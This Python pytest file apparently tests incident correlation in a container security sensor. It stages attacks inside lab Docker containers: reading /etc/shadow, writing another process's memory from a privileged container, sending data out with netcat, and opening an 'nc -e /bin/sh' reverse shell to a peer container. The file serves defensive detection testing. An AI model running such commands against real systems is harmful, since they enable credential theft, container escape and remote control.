"""Incidents: attacks in real containers, told as one story each, and what is no attack as none."""
import json
import os
import re
import secrets
import signal
import subprocess
import tarfile
import tempfile
import urllib.parse

import central_env
import docker_env
import pytest
import sensor_env
from boxes import Box
from docker_env import wait_for
from evasions import image_files

IMAGE = "bh-test/incidents:1"
MIGHTY = ["--cap-add=ALL", "--cap-drop=SYS_RESOURCE", "--security-opt", "seccomp=unconfined", "--security-opt", "apparmor=unconfined", "--security-opt", "systempaths=unconfined", "--pid=host"]


@pytest.fixture(scope="module")
def image(docker, build):
    with tempfile.NamedTemporaryFile("w") as some:
        some.write("some text\n")
        some.flush()
        docker.docker("import", "--change", "ENV PATH=/bin", "-", IMAGE, input=docker_env.make_base_image_tar(image_files(build, some.name)), text=False)
    return IMAGE


@pytest.fixture(scope="module")
def sensor(build, docker, central, backend, image):
    with central_env.connected_sensor(build, docker, central, backend) as s:
        yield s


@pytest.fixture
def name():
    return f"bh-inc-{secrets.token_hex(3)}"


def box(docker, name, *options, project=None):
    labels = ["--label", f"com.docker.compose.project={project or name}", "--label", f"com.docker.compose.service={name}"]
    return Box(docker, name, *labels, *options, image=IMAGE)


def incidents(central, **filters):
    answer = central.root().get("/api/v1/incidents?" + urllib.parse.urlencode({"limit": 500, **filters}))
    assert answer.status == 200, answer
    return answer.json["incidents"]


def incident(central, number):
    answer = central.root().get(f"/api/v1/incidents/{number}")
    assert answer.status == 200, answer
    return answer.json


def wait_incident(central, container, ready=lambda i: True, deadline=15):
    """The only one with this container, once it is `ready`."""
    def look():
        found = incidents(central, container=container)
        return len(found) == 1 and ready(found[0]), found
    wait_for(look, deadline, f"one incident with {container}")
    return incident(central, incidents(central, container=container)[0]["id"])


def cli(central, *argv, status=0):
    r = central.cli(*argv, status=status)
    return r.stdout + r.stderr


def findings(central, container):
    return central.root().get("/api/v1/findings?" + urllib.parse.urlencode({"limit": 500, "container": container})).json["findings"]


def sensor_processes(central, container):
    return central.root().get("/api/v1/processes?" + urllib.parse.urlencode({"limit": 500, "container": container})).json["processes"]


def rules_of(i):
    return {line["rule"] for line in i["timeline"]}


def test_an_attack_out_of_a_container_is_one_story_and_outlives_it(central, sensor, docker, name):
    victim = subprocess.Popen(["sleep", "300"])
    try:
        with box(docker, name, *MIGHTY) as b:
            b.run("/usr/sbin/nginx sh 'true; true'")
            b.run("cat /etc/shadow", ok=None)
            b.run("/acts --dir /tmp exec.execveat_memfd", ok=None)
            b.run(f"nsenter -t {victim.pid} -u /bin/busybox true", ok=None)
            b.run(f"dd if=/dev/zero of=/proc/{victim.pid}/mem bs=1 count=1 conv=notrunc; true", ok=None)
            docker.docker("rm", "-f", name)
            i = wait_incident(central, name, lambda i: {"initial-access", "credential-access", "defense-evasion", "privilege-escalation"} <= set(i["tactics"]))
    finally:
        victim.kill()
        victim.wait()
    assert i["severity"] == "critical" and i["state"] == "open", i
    assert {"Server program started a shell", "Password hashes read", "Program run from memory", "Process outside of the container traced or written to"} <= rules_of(i), rules_of(i)
    assert [x["name"] for x in i["containers"]] == [name], i["containers"]
    wait_for(lambda: (incident(central, i["id"])["containers"][0]["state"] in ("removed", "exited", "dead"), incident(central, i["id"])["containers"]), 15, "the container is told to be gone")
    times = [line["time"] for line in i["timeline"]]
    assert times == sorted(times), times
    first = next(line for line in i["timeline"] if line["rule"] == "Server program started a shell")
    assert first["parent"].endswith("nginx") and first["tactics"] == ["initial-access"], first
    assert i["title"].startswith(f"Way out of container {name} to node "), i["title"]
    assert "Server program started a shell" in i["story"] and "Password hashes read" in i["story"] and name in i["story"], i["story"]
    # each finding of the container that is more than a note is in it: none is lost
    told = {f["rule"] for f in findings(central, name) if f["kind"] == "rule" and f["priority"] not in ("informational", "debug", "notice")}
    assert told <= rules_of(i), told - rules_of(i)
    text = cli(central, "incident", str(i["id"]))
    print(text)
    assert i["title"] in text and "Timeline" in text and "Server program started a shell" in text, text
    assert json.loads(cli(central, "incident", str(i["id"]), "--json"))["id"] == i["id"]
    assert name in cli(central, "incidents", "--severity", "high"), cli(central, "incidents")


def test_two_attacks_in_one_application_are_two(central, sensor, docker, name):
    with box(docker, f"{name}-a", project=name) as a, box(docker, f"{name}-b", project=name) as b:
        for x in (a, b):
            x.run("/usr/sbin/nginx sh 'true; true'")
        for x in (b, a):
            x.run("cat /etc/shadow", ok=None)
        both = [wait_incident(central, f"{name}-{x}", lambda i: "credential-access" in i["tactics"]) for x in "ab"]
    assert both[0]["id"] != both[1]["id"]
    for i, x in zip(both, "ab"):
        assert [c["name"] for c in i["containers"]] == [f"{name}-{x}"], i["containers"]
    assert {i["id"] for i in incidents(central, application=name)} == {i["id"] for i in both}


def test_what_an_operator_does_is_none(central, sensor, docker, name):
    with box(docker, name) as b:
        docker.docker("exec", name, "/bin/sh", "-c", "ls; true")
        b.run("echo hello")
        wait_for(lambda: (any(f["rule"] == "Operator's command in a running container" for f in findings(central, name)), findings(central, name)), 10, "the operator's finding")
        # the next attack's finding is behind it in the log: then the operator's has been looked at
        with box(docker, f"{name}-x") as x:
            x.run("/usr/sbin/nginx sh 'true; true'")
            wait_incident(central, f"{name}-x")
    assert incidents(central, container=name) == []


def test_people_work_on_it_and_a_closed_one_takes_no_more(central, sensor, docker, name):
    with box(docker, name) as b:
        b.run("/usr/sbin/nginx sh 'true; true'")
        i = wait_incident(central, name)
        number = str(i["id"])
        assert "control characters" in cli(central, "incident", number, "comment", "looks \x1b[31mbad", status=1)
        cli(central, "incident", number, "comment", "looks <b>bad</b>")
        cli(central, "incident", number, "assign", "admin")
        assert "nobody-of-that-name" in cli(central, "incident", number, "assign", "nobody-of-that-name", status=1)
        assert "true_positive" in cli(central, "incident", number, "close", "maybe", status=1)
        text = cli(central, "incident", number, "close", "benign", "-m", "a test")
        assert "looks <b>bad</b>" in text and "a test" in text and "assigned to admin" in text and "benign" in text, text
        assert "is closed, not open" in cli(central, "incident", number, "close", "benign", status=1)
        assert name not in cli(central, "incidents") and name in cli(central, "incidents", "--all")
        b.run("cat /etc/shadow", ok=None)
        wait_for(lambda: (len(incidents(central, container=name)) == 2, incidents(central, container=name)), 15, "what happens afterwards is another incident")
    assert incident(central, number)["findings"] == i["findings"] and incident(central, number)["state"] == "closed"
    actions = [a["action"] for a in central.root().get("/api/v1/audit?limit=50").json["audit"]]
    assert {"incident.comment", "incident.assign", "incident.close"} <= set(actions), actions


def test_people_merge_split_and_learn(central, sensor, docker, name, tmp_path):
    admin = central.root()
    out = central.data_dir / "central" / "alerts" / f"{name}.json"
    assert admin.put(f"/api/v1/outputs/{name}", {"type": "file", "file": f"{name}.json", "format": "bulkhead", "sources": ["incident"]}).status in (200, 201)
    with box(docker, f"{name}-a") as a, box(docker, f"{name}-b") as b:
        for x in (a, b):
            x.run("/usr/sbin/nginx sh 'true; true'")
        one, two = (wait_incident(central, f"{name}-{x}")["id"] for x in "ab")
        assert "itself" in cli(central, "incident", str(one), "merge", str(one), status=1)
        cli(central, "incident", str(two), "merge", str(one))
        assert incident(central, two)["state"] == "merged" and incident(central, two)["title"], "it keeps what it told"
        i = incident(central, one)
        assert {c["name"] for c in i["containers"]} == {f"{name}-a", f"{name}-b"}
        b.run("cat /etc/shadow", ok=None)
        wait_for(lambda: ({"Password hashes read", "Model: never learned files"} <= rules_of(incident(central, one)), incident(central, one)["timeline"]), 15, "what follows goes to the one that goes on: what rule and model say")
        lines = [x["finding"] for x in incident(central, one)["timeline"] if x["container_name"] == f"{name}-b"]
        assert "not of all" in cli(central, "incident", str(one), "split", "no-such-finding", status=1)
        made = json.loads(cli(central, "incident", str(one), "split", *lines, "--json"))
        assert [c["name"] for c in made["containers"]] == [f"{name}-b"] and made["id"] not in (one, two), made
        b.run("rm /var/log/app.log")
        wait_for(lambda: ("Log removed or emptied" in rules_of(incident(central, made["id"])), incident(central, made["id"])["timeline"]), 15, "and what follows goes to the new one")
        assert [c["name"] for c in incident(central, one)["containers"]] == [f"{name}-a"]
    whole = incident(central, made["id"])
    assert any(p["exe"].endswith("cat") or "busybox" in p["exe"] for p in whole["processes"]) and any(f["path"] == "/etc/shadow" for f in whole["credentials"]), whole
    rules = tmp_path / "exceptions.yaml"
    rules.write_text(cli(central, "incident", str(made["id"]), "exceptions"))
    assert "rule: \"Password hashes read\"" in rules.read_text(), rules.read_text()
    print(cli(central, "rules", "check", *sorted(str(p) for p in (sensor_env.REPO / "rules").glob("*.yaml")), str(rules)))
    cli(central, "incident", str(made["id"]), "close", "false_positive")

    def told():
        alerts = [json.loads(x) for x in out.read_text().splitlines()] if out.exists() else []
        return {(x["output_fields"]["incident.id"], x["output_fields"]["incident.state"]) for x in alerts if x["rule"] == "Incident"}
    wait_for(lambda: ({(one, "open"), (two, "open"), (two, "merged"), (made["id"], "open"), (made["id"], "closed")} <= told(), told()), 15, "outputs are told")
    actions = [x["action"] for x in admin.get("/api/v1/audit?limit=50").json["audit"]]
    assert {"incident.merge", "incident.split"} <= set(actions), actions


def test_the_stream_tells_how_it_grows(central, sensor, docker, name):
    live = central.root().stream("/api/v1/stream")
    live.wait(lambda i, e, d: e == "hello")
    with box(docker, name) as b:
        b.run("/usr/sbin/nginx sh 'true; true'")
        live.wait(lambda i, e, d: e == "incident" and name in json.dumps(d), 15, "the incident in the stream")
        b.run("cat /etc/shadow", ok=None)
        live.wait(lambda i, e, d: e == "incident" and name in json.dumps(d) and "credential-access" in json.dumps(d), 15, "its next stage in the stream")
    live.close()


def address_of(docker, name):
    return docker.docker("inspect", "-f", "{{.NetworkSettings.IPAddress}}", name).stdout.strip()


def test_what_a_credential_that_was_read_led_to_belongs_to_it(central, sensor, docker, name):
    """No finding tells of the connection: a database is reached by a program that never did so, right after its password was read. Without that read the two are two."""
    with box(docker, f"{name}-web", project=name) as web, box(docker, f"{name}-db", project=name) as db, box(docker, f"{name}-x", project=name) as x, box(docker, f"{name}-y", project=name) as y:
        for server in (db, y):
            server.run("busybox httpd -p 5432 -h /tmp; sleep 0.3")
        for client, server in ((x, f"{name}-y"), (web, f"{name}-db")):
            client.run("/usr/sbin/nginx sh 'true; true'")
            wait_incident(central, client.name)
            if client is web:
                client.run("printf 'db:5432:*:app:pw' >/root/.pgpass; cat /root/.pgpass")
                wait_incident(central, client.name, lambda i: "credential-access" in i["tactics"])
            client.run(f"wget -q -O /dev/null http://{address_of(docker, server)}:5432/nothing", ok=None)
        for server in (y, db):
            server.run("cat /etc/shadow", ok=None)
        i = wait_incident(central, db.name, lambda i: len(i["containers"]) == 2, deadline=40)
        other = wait_incident(central, y.name)
        assert [c["name"] for c in other["containers"]] == [y.name], other
    assert {c["name"] for c in i["containers"]} == {web.name, db.name}, i["containers"]
    there = next(line for line in i["timeline"] if line["container_name"] == db.name)
    assert there["rule"] == "Password hashes read" and there["joined_by"] == "credential" and there["used"] == "/root/.pgpass", there
    assert not any(line["object"].endswith(":5432") for line in i["timeline"]), i["timeline"]
    assert f"in container {db.name} reached after the database password /root/.pgpass was read: Password hashes read" in i["story"], i["story"]


def test_it_tells_what_still_runs_and_what_went_out(central, sensor, docker, name, tmp_path):
    with box(docker, name, project=name) as b, box(docker, f"{name}-far", project=name) as far:
        peer = address_of(docker, far.name)
        listening = far.start("nc -l -p 5555 >/dev/null")
        b.run("mkdir /opt/kit /opt/out; cp /bin/busybox /opt/kit; cp /bin/busybox /opt/out; /opt/kit/busybox sleep 600 >/dev/null 2>&1 & sleep 0.5; head -c 200000 /dev/zero | /opt/out/busybox nc -w 1 " + peer + " 5555")
        far.wait(listening, ok=None)
        i = wait_incident(central, name)

        def now(pattern):
            said = incident(central, i["id"])["now"]
            return re.search(pattern, said), said
        wait_for(lambda: now(rf"Since [0-9-]+ [0-9:]+ UTC container {name} sent 20\d\.\d kB to {re.escape(peer)}:5555 \(and got none\)"), 40, "what went out")
        wait_for(lambda: now(rf"Program /opt/out/busybox has ended in container {name}\."), 15, "that the one has ended")
        wait_for(lambda: now(rf"Program /opt/kit/busybox still runs as pid \d+ in container {name}\."), 15, "that the other runs")
        pid = int(now(r"still runs as pid (\d+)")[0][1])
        assert pid in [p["pid"] for p in sensor_processes(central, name)], pid
        tar = tmp_path / "x.tar"
        cli(central, "evidence", "export", "--incident", str(i["id"]), "-o", str(tar))
        with tarfile.open(tar) as archive:
            report = archive.extractfile(next(m for m in archive.getmembers() if m.name.endswith("report.html"))).read().decode()
        assert re.search(rf"As of [0-9-]+ [0-9:]+ UTC, when this report was made: .*still runs as pid {pid} in container {name}", report), report
        text = cli(central, "incident", str(i["id"]))
        assert re.search(r"Severity of \d+ points: stages \d+", text), text
        os.kill(pid, signal.SIGKILL)
        wait_for(lambda: now(rf"Program /opt/kit/busybox has ended in container {name}\."), 15, "that it has ended")
    assert incident(central, i["id"])["weighed"]["stages"] >= 4


def streams(central, number):
    answer = central.root().get("/api/v1/evidence?" + urllib.parse.urlencode({"limit": 100, "incident": number, "kind": "stream"}))
    assert answer.status == 200, answer
    return answer.json["evidence"]


def test_what_went_over_a_reverse_shell_is_sealed_both_ways(central, sensor, docker, name):
    """From its first byte on, since it was made after a first finding; secrets are taken out, and nothing of what else the container says to others is there."""
    with box(docker, name, project=name) as b, box(docker, f"{name}-far", project=name) as far:
        b.run("/usr/sbin/nginx sh 'true; true'")
        i = wait_incident(central, name)
        wait_for(lambda: sensor.status()["evidence"]["streams"]["containers"], 10, "the container is suspicious")
        peer = address_of(docker, far.name)
        serving = far.start("(sleep 1; echo 'echo it is $((6*7))'; echo 'echo password=hunter2'; sleep 1; echo exit) | nc -l -p 4444 >/tmp/got")
        b.run(f"sleep 0.5; nc -w 4 {peer} 4444 -e /bin/sh; true")
        far.wait(serving, ok=None)
        assert "it is 42" in far.run("cat /tmp/got")
        def one():
            found = streams(central, i["id"])
            return len(found) == 1, found
        kept = wait_for(one, 40, "its first bytes are evidence")[0]
    text = central.root().get(f"/api/v1/evidence/{kept['id']}/data").body
    text = text.decode() if isinstance(text, bytes) else text
    print(text)
    assert kept["path"] == f"{peer}:4444" and kept["kind"] == "stream", kept
    assert f"with {peer}:4444, which it opened, ended" in text, text
    sent, got = text.split("got: ")
    assert "echo it is $((6*7))" in got and "from 0 on" in got, text
    assert "it is 42" in sent and re.search(r"sent: \d+ bytes from 0 on", sent), text
    assert "hunter2" not in text and "password=***" in got, text
    assert "Evidence" in cli(central, "incident", str(i["id"])) and "stream" in cli(central, "evidence", "list", "--incident", str(i["id"]))


def test_a_killed_central_goes_on_with_the_same_incident(central, sensor, docker, name):
    """Last: the central is another process afterwards."""
    with box(docker, name) as b:
        b.run("/usr/sbin/nginx sh 'true; true'")
        i = wait_incident(central, name)
        before = {x["id"]: incident(central, x["id"]) for x in incidents(central)}
        central.kill()
        b.run("cat /etc/shadow", ok=None)
        central.start()
        again = wait_incident(central, name, lambda i: "credential-access" in i["tactics"], deadline=40)
    assert again["id"] == i["id"] and again["findings"] > i["findings"], (i, again)
    for number, was in before.items():
        now = incident(central, number)
        if number == i["id"]:
            assert now["timeline"][:len(was["timeline"])] == was["timeline"], (was, now)
        else:
            assert {k: now[k] for k in ("timeline", "title", "story", "findings", "tactics", "severity")} == {k: was[k] for k in ("timeline", "title", "story", "findings", "tactics", "severity")}, (was, now)
